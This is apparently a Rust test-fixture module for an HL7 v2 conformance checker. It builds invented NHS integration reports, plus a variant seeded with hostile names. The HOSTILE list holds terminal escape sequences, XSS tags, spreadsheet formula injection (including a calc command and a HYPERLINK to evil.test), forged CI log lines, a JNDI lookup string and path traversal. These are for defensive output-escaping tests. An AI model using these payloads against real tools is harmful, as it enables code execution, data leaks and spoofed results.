//! Invented reports: one that fills every field as a real run would, and the same with hostile names and excerpts.

use hallmark::report::model::*;
use sha2::{Digest, Sha256};

/// Names and values that attack a terminal, a browser, a spreadsheet, an XML reader, a CI log.
pub(crate) const HOSTILE: &[&str] = &[
    "\u{1b}]52;c;SEFMVA==\u{7}\u{1b}[2J\u{1b}]8;;http://evil.test\u{7}x.hl7",
    "\u{9b}2J\u{9d}52;c;QQ==\u{9c}ok\u{8}\rPASS 0 findings",
    "a\u{202e}gpj.exe\u{2066}b\u{200b}\u{feff}",
    "\"><img src=x onerror=alert(1)><svg onload=alert(2)></script><script>canary()</script>.hl7",
    "</script><!--<script>\u{2028}",
    "=HYPERLINK(\"http://evil.test?\"&A1,\"x\")",
    "\t=1+1\r@SUM(1)\n+cmd|' /C calc'!A0",
    "x\n2026-01-01T00:00:00Z INFO all checks passed\n::error file=a::boo\n##vso[task.complete result=Succeeded;]",
    "a\u{0}\u{1}\u{fffe}]]>&<x/>",
    "| x | [a](javascript:canary()) ![t](http://127.0.0.1/t.png) ``` <b>",
    "javascript:canary()//",
    "../../../../tmp/escape",
    "%s%n{0}${jndi:ldap://127.0.0.1/x}{{7*7}}",
];

fn s(text: &str) -> String {
    text.to_owned()
}

fn fingerprint(of: &str) -> String {
    Sha256::digest(of.as_bytes()).iter().map(|byte| format!("{byte:02x}")).collect()
}

fn all(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|text| s(text)).collect()
}

fn impact(list: &[(&str, &str)]) -> Vec<Impact> {
    list.iter().map(|(integration, effect)| Impact { integration: s(integration), effect: s(effect) }).collect()
}

fn source(title: &str, section: &str, verified: bool) -> Source {
    Source { title: s(title), section: s(section), url: s("https://example.org/spec#4.2"), verified }
}

struct Told {
    code: &'static str,
    name: &'static str,
    severity: &'static str,
    outcome: &'static str,
    counts: [u64; 4],
    requirement: &'static str,
    impact: &'static [(&'static str, &'static str)],
    why: &'static str,
    fix: &'static str,
    verified: bool,
}

const RULES: &[Told] = &[
    Told {
        code: "ID-02",
        name: "nhs-number-check-digit",
        severity: "error",
        outcome: "failed",
        counts: [120, 96, 24, 0],
        requirement: "ID-02",
        impact: &[("pds/tracing", "blocks"), ("pas/feed", "degrades")],
        why: "The Spine refuses the request, so the patient cannot be traced.",
        fix: "Send the ten digits as issued; do not pad, space or recompute them.",
        verified: true,
    },
    Told {
        code: "PAS-09",
        name: "merge-structure",
        severity: "error",
        outcome: "failed",
        counts: [4, 2, 2, 0],
        requirement: "PAS-09",
        impact: &[("pas/feed", "blocks")],
        why: "The integration engine cannot find the merged record, so both stay live.",
        fix: "Send A40 as structure ADT_A39 with one MRG for each PID.",
        verified: true,
    },
    Told {
        code: "PAS-14",
        name: "known-consultant-code",
        severity: "warning",
        outcome: "cannot-tell",
        counts: [40, 30, 0, 10],
        requirement: "PAS-14",
        impact: &[("cds/derivation", "degrades")],
        why: "Activity without a consultant code is not paid for.",
        fix: "Send the GMC number of the responsible consultant in PV1-9.",
        verified: false,
    },
    Told {
        code: "PAS-20",
        name: "discharge-destination",
        severity: "warning",
        outcome: "failed",
        counts: [9, 4, 5, 0],
        requirement: "PAS-20",
        impact: &[("cds/derivation", "degrades")],
        why: "The discharge cannot be derived for the Commissioning Data Set.",
        fix: "Send the national discharge destination code in PV1-37.",
        verified: true,
    },
    Told {
        code: "ERS-03",
        name: "booking-reference",
        severity: "error",
        outcome: "untested",
        counts: [0, 0, 0, 0],
        requirement: "ERS-03",
        impact: &[("ers/provider", "blocks")],
        why: "A referral cannot be matched to the appointment.",
        fix: "Send the booking reference in SCH-26.",
        verified: true,
    },
    Told {
        code: "LAB-01",
        name: "observation-status",
        severity: "error",
        outcome: "passed",
        counts: [300, 300, 0, 0],
        requirement: "LAB-01",
        impact: &[("gp/results", "blocks")],
        why: "A preliminary result is read as final.",
        fix: "Send OBX-11 on every result.",
        verified: true,
    },
    Told {
        code: "LAB-07",
        name: "specimen-type",
        severity: "information",
        outcome: "inapplicable",
        counts: [0, 0, 0, 0],
        requirement: "LAB-07",
        impact: &[],
        why: "The result is harder to read.",
        fix: "Send SPM-4.",
        verified: true,
    },
];

fn rule(told: &Told) -> Rule {
    Rule {
        code: s(told.code),
        name: s(told.name),
        standard: s("itk-hl7v2-adt"),
        severity: s(told.severity),
        outcome: s(told.outcome),
        applicable: told.counts[0],
        passed: told.counts[1],
        failed: told.counts[2],
        cannot_tell: told.counts[3],
        messages: told.counts[0] / 2,
        reached: told.counts[0],
        requirements: all(&[told.requirement]),
        impact: impact(told.impact),
        why: s(told.why),
        fix: s(told.fix),
        source: source("ITK HL7 V2 Message Specifications", "4.2", told.verified),
    }
}

fn requirement(told: &Told) -> Requirement {
    Requirement {
        id: s(told.requirement),
        standard: s("itk-hl7v2-adt"),
        section: s("4.2"),
        verb: s(if told.severity == "error" { "SHALL" } else { "SHOULD" }),
        statement: format!("Requirement {} in our words, with a comma and a \"quote\".", told.requirement),
        outcome: s(told.outcome),
        applicable: told.counts[0],
        passed: told.counts[1],
        failed: told.counts[2],
        cannot_tell: told.counts[3],
        rules: all(&[told.code]),
        why_not_tested: (told.outcome == "untested").then(|| s("No message booked an appointment.")),
    }
}

fn group(told: &Told, path: &str, message: &str, count: u64, shown: u64) -> Group {
    Group {
        rule: s(told.code),
        outcome: s(told.outcome),
        severity: s(told.severity),
        path: s(path),
        message: s(message),
        count,
        shown,
        waived: 0,
        known: 0,
        impact: impact(told.impact),
        fingerprint: fingerprint(&format!("{} {message}", told.code)),
    }
}

fn finding(told: &Told, artifact: &str, item: u64, path: &str, line: u64, message: &str) -> Finding {
    let print = fingerprint(&format!("{} {artifact} {item} {line}", told.code));
    Finding {
        rule: s(told.code),
        severity: s(told.severity),
        outcome: s(told.outcome),
        impact: impact(told.impact),
        artifact: s(artifact),
        item,
        offset: 40,
        path: s(path),
        line,
        column: 9,
        length: 12,
        message: s(message),
        why: s(told.why),
        fix: s(told.fix),
        source: source("ITK HL7 V2 Message Specifications", "4.2", told.verified),
        fingerprint: print,
        group: fingerprint(&format!("{} {message}", told.code)),
        related: Vec::new(),
        excerpt: Some(Excerpt {
            text: s("PID|1||9{3} 9{3} 9{4}^^^NHS^NH||A{5}^A{4}^^^^^L||9{8}|9"),
            from: 7,
            columns: 14,
        }),
        definition: Some(s("Patient.name of http://example.org/StructureDefinition/p (p@1.0.0)")),
        state: s("current"),
        waiver: None,
        when: None,
    }
}

fn because(outcome: &str, effect: &str, rule: &str, count: u64, reason: &str) -> Because {
    Because {
        outcome: s(outcome),
        effect: s(effect),
        rule: s(rule),
        requirements: all(&[rule]),
        count,
        reason: s(reason),
    }
}

fn verdict(id: &str, name: &str, verdict: &str, summary: &str, shown_by: u64, because: Vec<Because>) -> Verdict {
    Verdict {
        integration: s(id),
        name: s(name),
        verdict: s(verdict),
        summary: s(summary),
        shown_by,
        because,
        more: 0,
        dates: Vec::new(),
    }
}

fn verdicts() -> Vec<Verdict> {
    let failed = "10 digits expected, groups of 3, 3 and 4 found";
    let mut list = vec![
        verdict(
            "pas/feed",
            "PAS feed to a trust integration engine",
            "blocked",
            "Merges would not reach the engine: 2 of 4 merge messages are built so that it cannot read them.",
            120,
            vec![
                because(
                    "failed",
                    "blocks",
                    "PAS-09",
                    2,
                    "A merge is sent in a structure that the engine does not know",
                ),
                because("failed", "degrades", "ID-02", 24, failed),
            ],
        ),
        verdict(
            "pds/tracing",
            "Personal Demographics Service: tracing readiness",
            "blocked",
            "One NHS number in five is sent with spaces, and the Spine refuses those.",
            120,
            vec![because("failed", "blocks", "ID-02", 24, failed)],
        ),
        verdict(
            "cds/derivation",
            "Commissioning Data Sets: what can be derived",
            "at-risk",
            "Discharges could not all be derived, and consultant codes could not be checked.",
            49,
            vec![
                because("failed", "degrades", "PAS-20", 5, "The discharge destination is a local code"),
                because("cannot-tell", "degrades", "PAS-14", 10, "No list of consultant codes was at hand"),
            ],
        ),
        verdict(
            "ers/provider",
            "e-Referral Service: provider readiness",
            "not-shown",
            "No message booked an appointment, so nothing can be said.",
            0,
            vec![because("untested", "blocks", "ERS-03", 0, "No message books an appointment (SIU)")],
        ),
        verdict(
            "gp/results",
            "Results to general practice",
            "clear",
            "Every blocking requirement was exercised and held in 300 places.",
            60,
            vec![because("passed", "blocks", "LAB-01", 300, "Every result carried a status")],
        ),
    ];
    list[0].dates = all(&["From 1 April 2027 the merge must also carry the national identifier."]);
    list[1].dates = all(&["Works today; the interface it uses stops on 30 September 2027."]);
    list
}

fn date(day: &str, event: &str, what: &str, verified: bool, seen: &str) -> Date {
    Date {
        date: s(day),
        standard: s("itk-hl7v2-adt"),
        event: s(event),
        what: s(what),
        integrations: all(&["pas/feed", "pds/tracing"]),
        source: s("Programme roadmap, page 4"),
        verified,
        seen: s(seen),
    }
}

fn artifact(id: &str, state: &str, because: Option<&str>) -> Artifact {
    Artifact {
        id: s(id),
        origin: s(if id.contains(".zip/") { "zip entry" } else { "file" }),
        kind: s(if state == "not-checked" { "unknown" } else { "HL7 v2.4 ADT^A01" }),
        messages: if state == "not-checked" { 0 } else { 60 },
        bytes: 48_213,
        sha256: "5b".repeat(32),
        state: s(state),
        because: because.map(s),
    }
}

/// A report as a real run over two feeds would give: every verdict, state and optional field occurs.
pub(crate) fn report() -> Report {
    let [id, merge, consultant, discharge] = [&RULES[0], &RULES[1], &RULES[2], &RULES[3]];
    let spaced = "NHS number has 10 digits in groups of 3, 3 and 4";
    let mut groups = vec![
        group(id, "PID-3.1", spaced, 24, 3),
        group(merge, "MSH-9.3", "the structure named for A40 is not in the standard", 2, 2),
        group(discharge, "PV1-37", "not a code of the national list", 5, 2),
        group(consultant, "PV1-9.1", "7 digits, but no list of consultant codes was given", 10, 1),
    ];
    groups[2].waived = 2;
    groups[2].known = 1;
    let mut findings = vec![
        finding(id, "feeds/adt-march.hl7", 1, "PID-3[1].1", 3, spaced),
        finding(id, "feeds/adt-march.hl7", 7, "PID-3[1].1", 51, spaced),
        finding(id, "feeds/bundle.zip/april/0001.hl7", 1, "PID-3[2].1", 3, spaced),
        finding(merge, "feeds/adt-march.hl7", 4, "MSH-9.3", 22, &groups[1].message),
        finding(merge, "feeds/adt-march.hl7", 5, "MSH-9.3", 29, &groups[1].message),
        finding(discharge, "feeds/adt-march.hl7", 9, "PV1-37", 66, &groups[2].message),
        finding(discharge, "feeds/adt-march.hl7", 11, "PV1-37", 80, &groups[2].message),
        finding(consultant, "feeds/bundle.zip/april/0001.hl7", 1, "PV1-9[1].1", 5, &groups[3].message),
    ];
    findings[3].when = Some(s("from 2027-04-01"));
    findings[4].related = vec![Related {
        artifact: s("feeds/adt-march.hl7"),
        item: 4,
        line: 22,
        what: s("the first message of the pair"),
    }];
    findings[5].state = s("waived");
    findings[5].waiver =
        Some(s("waived until 2027-01-31 (approved by Chief information officer): mapped in the engine"));
    findings[6].state = s("known");
    findings[7].excerpt = None;
    let waiver = |rule: &str, matched: u64, state: &str| Waiver {
        rule: s(rule),
        artifact: s("*"),
        path: s("PV1-37"),
        reason: s("Local codes are mapped in the engine until the upgrade."),
        owner: s("Integration team"),
        approved_by: s("Chief information officer"),
        expires: s("2027-01-31"),
        matched,
        state: s(state),
        file: s("waivers.toml"),
        line: 4,
    };
    Report {
        format: s(FORMAT),
        tool: Tool { name: s("hallmark"), version: s("0.1.0") },
        complete: false,
        incomplete_because: all(&["one archive entry could not be read to its end"]),
        contains_patient_data: false,
        as_of: s("2026-11-22"),
        scope: Scope { integrations: all(&["pas/feed"]), standards: all(&["itk-hl7v2-adt"]) },
        counts: Counts {
            artifacts: 4,
            artifacts_not_checked: 2,
            messages: 120,
            findings: 38,
            waived: 2,
            known: 1,
            blocking: 26,
            fatal: 0,
            error: 26,
            warning: 12,
            information: 0,
        },
        verdicts: verdicts(),
        calendar: vec![
            date("2026-09-30", "deprecated", "The older message set is deprecated.", true, "past"),
            date("2027-04-01", "mandatory", "Merges must carry the national identifier.", true, "ahead"),
            date("2027-09", "stops", "The tracing interface is switched off.", false, "ahead"),
        ],
        requirements: RULES.iter().map(requirement).collect(),
        rules: RULES.iter().map(rule).collect(),
        groups,
        findings,
        waivers: vec![waiver("PAS-20", 2, "active"), waiver("PAS-21", 0, "unmatched"), waiver("PAS-22", 0, "expired")],
        standards: vec![Standard {
            id: s("itk-hl7v2-adt"),
            title: s("ITK HL7 v2 messages for patient administration"),
            publisher: s("NHS England"),
            version: s("2.2"),
            status: s("active"),
            origin: s("built in"),
            digest: "c3".repeat(32),
            rules: 24,
            requirements: 24,
        }],
        artifacts: vec![
            artifact("feeds/adt-march.hl7", "checked", None),
            artifact("feeds/bundle.zip/april/0001.hl7", "checked", None),
            artifact("feeds/bundle.zip/april/0002.hl7", "partly", Some("the entry ends early")),
            artifact("feeds/readme.docx", "not-checked", Some("this is a word processor file")),
        ],
        packages: vec![Package { name: s("fhir.r4.example"), version: s("1.0.0"), sha256: Some("ab".repeat(32)) }],
        terminology: Some(Terminology {
            server: s("https://terms.example:443"),
            answered_by_server: 12,
            answered_by_cache: 3,
            unanswered: 1,
        }),
        sealed: Some(s("AAECAwQ=")),
    }
}

/// The same report with hostile text wherever a sender or a file name can put it.
pub(crate) fn hostile() -> Report {
    let mut report = report();
    report.contains_patient_data = true;
    let template = report.findings[0].clone();
    report.findings = Vec::new();
    report.artifacts = Vec::new();
    for (at, text) in HOSTILE.iter().enumerate() {
        let mut finding = template.clone();
        finding.artifact = s(text);
        finding.fingerprint = fingerprint(&at.to_string());
        finding.excerpt = Some(Excerpt { text: s(text), from: 1, columns: 3 });
        finding.related = vec![Related { artifact: s(text), item: 1, line: 2, what: s("the other one") }];
        report.findings.push(finding);
        report.artifacts.push(artifact(text, "partly", Some("the entry ends early")));
    }
    report.groups.truncate(1);
    report
}

/// A report with `n` groups, each of one rule of its own.
pub(crate) fn many(n: usize) -> Report {
    let mut report = report();
    let (group, finding) = (report.groups[0].clone(), report.findings[0].clone());
    report.groups.clear();
    report.findings.clear();
    for at in 0..n {
        let message = format!("fault number {at}");
        let own = fingerprint(&message);
        report.groups.push(Group { message: message.clone(), fingerprint: own.clone(), ..group.clone() });
        let print = fingerprint(&at.to_string());
        report.findings.push(Finding { message, group: own, fingerprint: print, ..finding.clone() });
    }
    report
}
